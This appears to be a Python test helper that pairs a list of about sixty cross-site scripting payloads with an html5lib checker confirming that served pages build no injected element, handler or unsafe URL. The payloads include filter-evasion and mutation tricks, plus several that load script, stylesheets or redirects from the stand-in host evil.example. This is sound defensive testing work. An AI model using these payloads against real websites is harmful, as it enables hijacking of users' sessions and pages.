"""Cross-site scripting payloads, and the check that a served page built no element from one.

Every payload that ran would set `window.__xss` (or open a dialog). The HTML check reads a page
with html5lib, which follows the WHATWG parsing rules that browsers do, so a payload that hides
markup from a lenient parser (comments, CDATA, broken quoting) is seen here as a browser sees it.
"""

from urllib.parse import urlsplit

import html5lib

RUN = "window.__xss=1"
PAYLOADS = [
    # The two of issue 12, finding 2: markup hidden in what lenient parsers call a comment.
    f"<!--><img src=x onerror={RUN}>-->",
    f"<![CDATA[><img src=x onerror={RUN}>]]>",
    f"<script>{RUN}</script>",
    f"<SCRIPT>{RUN}</SCRIPT>",
    "<script src=//evil.example/x.js></script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f'"><script>{RUN}</script>',
    f"'><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<img src=x onerror='{RUN}'>",
    f'<img src="x" onerror="{RUN}">',
    f"<img/src=x/onerror={RUN}>",
    f"<IMG SRC=x OnErRoR={RUN}>",
    f"<img src=x onerror\n={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<body onload={RUN}>",
    f"<iframe src=javascript:{RUN}></iframe>",
    f"<iframe srcdoc='<script>{RUN}</script>'></iframe>",
    f"<object data=javascript:{RUN}></object>",
    f"<embed src=javascript:{RUN}>",
    f"<a href=javascript:{RUN}>click</a>",
    f'<a href="jav&#x09;ascript:{RUN}">click</a>',
    f'<a href=" javascript:{RUN}">click</a>',
    f"<a href=JaVaScRiPt:{RUN}>click</a>",
    f"<a href=data:text/html,<script>{RUN}</script>>click</a>",
    f"<form action=javascript:{RUN}><button>go</button></form>",
    f"<button formaction=javascript:{RUN}>go</button>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}>",
    f"<textarea autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<marquee onstart={RUN}>",
    f'<div style="background:url(javascript:{RUN})">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<?xml-stylesheet href=https://evil.example/x.xsl?>",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f"<template><img src=x onerror={RUN}></template>",
    f"<xss-probe onpointerover={RUN}>x</xss-probe>",
    f'" onmouseover="{RUN}" x="',
    f"' onmouseover='{RUN}' x='",
    f"` onmouseover={RUN} x=`",
    f"javascript:{RUN}",
    f"{{{{7*7}}}}{{% debug %}}<img src=x onerror={RUN}>",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    "<img src=x onerror=&#119;indow.__xss=1>",
    f"<b onclick={RUN}>bold</b>",
    f'<a id="a1" href="javascript:{RUN}">link</a>',
    f"<span data-x onmouseenter={RUN}>x</span>",
]

URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "poster", "srcset", "xlink:href"}
SAFE_SCHEMES = {"", "http", "https", "mailto", "tel"}
NEVER = {"iframe", "frame", "frameset", "object", "embed", "base", "applet", "style", "xss-probe"}


def elements(html):
    """Every element of `html` as a browser builds it: (tag, {attribute: value})."""
    tree = html5lib.parse(html, treebuilder="etree", namespaceHTMLElements=False)
    for element in tree.iter():
        if isinstance(element.tag, str):
            yield element.tag.rsplit("}", 1)[-1], dict(element.attrib)


def shapes(html):
    """The kinds of element and attribute in `html`: (tag, sorted attribute names)."""
    return {(tag, tuple(sorted(attributes))) for tag, attributes in elements(html)}


def dangers(html):
    """What in `html` could run script or lead elsewhere, whatever put it there."""
    found = []
    for tag, attributes in elements(html):
        if tag in NEVER:
            found.append(tag)
        # The page's own files, and structured data, which no browser runs.
        data = attributes.get("type") == "application/ld+json" and "src" not in attributes
        if tag == "script" and not (data or attributes.get("src", "").startswith("/static/")):
            found.append(f"script {attributes}")
        if tag == "meta" and attributes.get("http-equiv", "").lower() == "refresh":
            found.append("meta refresh")
        for name, value in attributes.items():
            name = name.rsplit("}", 1)[-1]
            if name.startswith("on") or name in {"style", "srcdoc"}:
                found.append(f"{tag} {name}")
            elif name in URL_ATTRIBUTES:
                # Browsers drop tabs and line breaks from URLs and trim the ends before reading the scheme.
                url = "".join(value.split("\t")).replace("\n", "").replace("\r", "").strip()
                scheme = urlsplit(url).scheme.lower() if ":" in url.split("/", 1)[0] else ""
                if scheme not in SAFE_SCHEMES:
                    found.append(f"{tag} {name}={value[:40]}")
    return found


def injected(html, baseline):
    """What `html` has that a page shown for a harmless value (`baseline`) lacks, plus any danger."""
    return sorted(shapes(html) - shapes(baseline)) + dangers(html)
